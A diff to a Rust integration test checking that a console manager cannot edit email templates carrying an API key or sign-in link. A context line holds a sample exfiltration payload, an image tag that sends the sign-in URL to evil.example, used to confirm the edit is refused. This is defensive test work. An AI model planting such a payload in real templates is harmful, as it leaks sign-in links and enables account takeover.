@@ -1381,6 +1381,22 @@ async fn email_templates_are_previewed_checked_saved_and_reset() {
     );
     let page = c.post_form(path, &manager, "action=reset").await;
     assert!(page.text.contains("The shipped template is used again."));
+    // The welcome email carries the partner's API key: an owner's to word, not a manager's.
+    let welcome = "/console/settings/emails/welcome";
+    let page = c
+        .post_form(
+            welcome,
+            &manager,
+            "subject=Hi&text={{+api_key+}}&html=x&action=save",
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::FORBIDDEN);
+    assert!(
+        !c.get(welcome, Some(&manager))
+            .await
+            .text
+            .contains("value=\"save\"")
+    );
     // The emails that carry a sign-in link are fixed: a manager who could edit them could
     // send an owner's link to themselves.
     let leak = "subject=Sign+in&text={{+sign_in_url+}}&html=%3Cimg+src%3D%22https%3A%2F%2Fevil.example%2F{{+sign_in_url+}}%22%3E&action=save";
